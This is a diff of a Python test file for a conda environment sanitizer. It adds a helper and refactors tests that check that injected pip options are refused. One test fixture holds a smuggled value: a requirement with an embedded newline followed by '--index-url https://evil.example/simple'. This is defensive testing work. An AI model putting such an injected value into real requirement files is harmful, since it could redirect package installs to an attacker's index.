@@ -25,8 +25,8 @@ from condaqa.errors import BuildError, ConfigError, SpecError
 from condaqa.kernels.specs import find_kernels
 from condaqa.manifest import load_manifest
 from condaqa.plan import rules
-from condaqa.plan.findings import explained_packages, load_findings
-from condaqa.plan.foreign import sanitize_file, sanitize_spec
+from condaqa.plan.findings import Finding, explained_packages, load_findings
+from condaqa.plan.foreign import Sanitized, sanitize_file, sanitize_spec
 from condaqa.plan.model import BuildPlan, PostStep
 from condaqa.plan.planning import legacy_path, load_legacy, override_path, plan_environment
 from condaqa.plan.rules import Context
@@ -161,14 +161,20 @@ def test_a_pip_line_with_a_control_character_is_refused(line):
     assert built.pip == ("tabular==1.1.0",) and built.post == ()  # no later rule brings it back
 
 
+def sanitized_with_one_error(exported: Path, text: str) -> tuple[Sanitized, Finding]:
+    """`text` written to `exported` and sanitized: the result and its one error finding."""
+    exported.write_text(text)
+    result = sanitize_file(exported)
+    [refused] = [f for f in result.findings if f.severity is ERROR]
+    return result, refused
+
+
 def test_a_newline_injected_into_a_requirement_of_a_file_is_refused(tmp_path):
     exported = tmp_path / "injected.yml"
-    exported.write_text('name: injected\ndependencies:\n  - python\n  - pip:\n'
-                        '    - "codebook==1.2.0\\n--index-url https://evil.example/simple"\n'
-                        '    - surveyweights==0.3.0\n')
-    result = sanitize_file(exported)
+    result, refused = sanitized_with_one_error(exported, 'name: injected\ndependencies:\n  - python\n  - pip:\n'
+                                               '    - "codebook==1.2.0\\n--index-url https://evil.example/simple"\n'
+                                               '    - surveyweights==0.3.0\n')
     assert result.spec.pip == ["surveyweights==0.3.0"]
-    [refused] = [f for f in result.findings if f.severity is ERROR]
     assert refused.rule is Rule.PIP_SYNTAX and "'\\n'" in refused.reason and str(exported) in refused.hint
     assert "evil.example" not in dump(result)
 
@@ -240,11 +246,9 @@ def test_requirements_and_editables_are_not_option_lines():
 
 def test_a_file_with_an_extra_index_is_refused_unless_the_site_gives_that_index(tmp_path):
     exported = tmp_path / "rocm.yml"
-    exported.write_text("name: rocm\ndependencies:\n  - python=3.9\n  - pip:\n"
-                        "    - --extra-index-url https://download.pytorch.org/whl/rocm5.2\n"
-                        "    - torch==1.13.0+rocm5.2\n")
-    result = sanitize_file(exported)
-    [refused] = [f for f in result.findings if f.severity is ERROR]
+    result, refused = sanitized_with_one_error(exported, "name: rocm\ndependencies:\n  - python=3.9\n  - pip:\n"
+                                               "    - --extra-index-url https://download.pytorch.org/whl/rocm5.2\n"
+                                               "    - torch==1.13.0+rocm5.2\n")
     assert refused.rule is Rule.PIP_OPTIONS and result.spec.pip == ["torch==1.13.0+rocm5.2"]
     allowed = sanitize_file(exported, site_pip_args=("--extra-index-url", "https://download.pytorch.org/whl/rocm5.2"))
     assert [f.severity for f in allowed.findings if f.rule is Rule.PIP_OPTIONS] == [INFO]
